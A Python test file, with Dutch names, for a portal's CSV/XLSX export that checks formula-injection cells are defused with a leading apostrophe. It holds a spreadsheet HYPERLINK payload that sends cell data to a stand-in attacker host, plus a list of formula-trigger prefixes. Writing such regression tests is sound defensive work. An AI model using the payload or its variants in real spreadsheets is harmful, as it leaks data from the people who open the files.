"""Regression (issue 17, finding 11): every CSV/XLSX export neutralises formulas in the one
shared helper (``sdd_portal.export.veilige_cel`` via ``tabel_response``), the header
included. One test per export: a provider named like a formula must come out as text in
both formats."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from sdd_portal.export import tabel_response, veilige_cel
from tests.indicaties.test_wasservice import URL as WASSERVICE
from tests.indicaties.test_wasservice import VANDAAG, banden, beschik, gemeenten, ho

# pytest finds the imported fixtures by name
__all__ = ["banden", "beschik", "gemeenten", "ho"]

PAYLOAD = '=HYPERLINK("https://aanvaller.example/?d="&A1;"Klik hier")'


@pytest.mark.parametrize(
    "tekst",
    [
        "=1+1",
        "+31 6 1234",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "\u00a0=1",
        "\uff1d1+1",  # full-width equals sign
        PAYLOAD,
    ],
)
def test_tekst_die_als_formule_begint_krijgt_een_apostrof(tekst):
    assert veilige_cel(tekst) == "'" + tekst


@pytest.mark.parametrize("waarde", ["Vlijtig Liesje", "a=b", "", 12, -5, 1.5, None])
def test_gewone_tekst_en_getallen_blijven_zoals_ze_zijn(waarde):
    assert veilige_cel(waarde) == waarde


def _csv_cellen(response) -> list[list[str]]:
    import csv

    tekst = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(tekst), delimiter=";"))


def _xlsx_cellen(response):
    blad = load_workbook(io.BytesIO(response.content)).active
    return [list(rij) for rij in blad.iter_rows()]


def _geen_formule(response, formaat: str) -> list:
    """Every cell (header included) that holds the payload starts with ``'``; in XLSX no cell
    is stored as a formula."""
    if formaat == "csv":
        waarden = [w for rij in _csv_cellen(response) for w in rij]
    else:
        cellen = [c for rij in _xlsx_cellen(response) for c in rij]
        assert all(c.data_type != "f" for c in cellen)
        waarden = [c.value for c in cellen]
    geraakt = [w for w in waarden if isinstance(w, str) and PAYLOAD in w]
    assert geraakt and all(w == "'" + PAYLOAD for w in geraakt)
    return geraakt


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_kop_en_cellen_van_tabel_response(formaat):
    response = tabel_response("t", [PAYLOAD, "Gewoon"], [[PAYLOAD, 3]], formaat)
    assert len(_geen_formule(response, formaat)) == 2


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_export_contractbeheer_dashboard(login, contractmanager, aanbieder_a, formaat):
    aanbieder_a.naam = PAYLOAD
    aanbieder_a.save()
    response = login(contractmanager).get("/contractbeheer/", {"formaat": formaat})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    _geen_formule(response, formaat)


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_export_wasservice_kandidaten(login, consulent, gemeenten, beschik, aanbieder_a, formaat):
    aanbieder_a.naam = PAYLOAD
    aanbieder_a.save()
    beschik("Blijft", minuten=200)
    response = login(consulent).get(
        WASSERVICE,
        {
            "gemeenten": [gemeenten["Dordrecht"].pk],
            "aftrek": "30",
            "peildatum": VANDAAG().isoformat(),
            "formaat": formaat,
        },
    )
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    _geen_formule(response, formaat)
